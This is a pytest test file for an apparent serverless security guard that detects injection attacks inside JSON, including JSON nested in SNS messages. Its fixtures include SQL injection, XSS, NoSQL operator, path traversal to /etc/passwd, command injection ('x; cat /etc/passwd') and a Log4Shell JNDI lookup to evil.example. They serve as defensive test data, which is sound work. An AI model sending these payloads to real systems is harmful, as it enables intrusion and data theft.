"""A string that is itself a JSON document is scanned value by value (keys included)."""

from __future__ import annotations

import json

import pytest

from faasguard.guard.detect import DetectionKind, detect


def _sns(message: object) -> str:
    """An SNS envelope as SQS delivers it: the message is JSON inside a JSON string."""
    return json.dumps({"Type": "Notification", "Message": json.dumps(message), "Subject": "x"})


@pytest.mark.parametrize(
    ("document", "kind"),
    [
        ({"q": "1' OR '1'='1"}, DetectionKind.SQLI),
        ({"items": [{"name": "<script>alert(1)</script>"}]}, DetectionKind.XSS),
        ({"user": {"$ne": None}}, DetectionKind.NOSQL),  # an operator as a key
        (["a", "b", "../../../etc/passwd"], DetectionKind.PATH_TRAVERSAL),
        ({"ua": "${jndi:ldap://evil.example/a}"}, DetectionKind.LOG4SHELL),
    ],
)
def test_attack_in_a_value_or_key_is_found(document: object, kind: DetectionKind) -> None:
    assert kind in {d.kind for d in detect(json.dumps(document))}


def test_json_inside_a_json_string_is_opened() -> None:
    found = detect(_sns({"order": 1, "note": "x; cat /etc/passwd"}))
    assert {d.kind for d in found} >= {DetectionKind.CMDI, DetectionKind.PATH_TRAVERSAL}


def test_one_detection_per_kind_across_values_in_kind_order() -> None:
    found = detect(json.dumps({"a": "1 OR 1=1", "b": "1 UNION SELECT 1", "c": "`id`"}))
    kinds = [d.kind for d in found]
    assert kinds == [DetectionKind.SQLI, DetectionKind.CMDI]


def test_benign_document_is_clean() -> None:
    document = {
        "Records": [
            {
                "eventSource": "aws:s3",
                "s3": {"bucket": {"name": "my-bucket"}, "object": {"key": "photos/cat 1.jpg"}},
                "note": "Tom & Jerry; rock 'n' roll",
                "when": "2024-01-01T00:00:00Z",
                "url": "https://example.com/a?b=1&c=2",
            }
        ]
    }
    assert detect(json.dumps(document)) == []
    assert detect(_sns(document)) == []


def test_not_json_after_all_is_scanned_as_text() -> None:
    # Looks like JSON but is not (no closing quote): the whole text is scanned.
    assert DetectionKind.SQLI in {d.kind for d in detect('{"a": "x\' or 1=1--}')}
    assert DetectionKind.TEMPLATE in {d.kind for d in detect("{{7*7}}")}


def test_kinds_filter_applies_inside_documents() -> None:
    text = json.dumps({"a": "1 OR 1=1", "b": "<script>alert(1)</script>"})
    assert [d.kind for d in detect(text, kinds=frozenset({DetectionKind.XSS}))] == [
        DetectionKind.XSS
    ]


def test_deep_or_huge_documents_stay_bounded() -> None:
    deep = "[" * 5000 + '"1 OR 1=1"' + "]" * 5000
    assert DetectionKind.SQLI in {d.kind for d in detect(deep)}  # too deep: scanned as text
    wide = json.dumps(["ok"] * 10_000 + ["1 UNION SELECT 1"])
    assert DetectionKind.SQLI in {d.kind for d in detect(wide)}  # too many: scanned as text
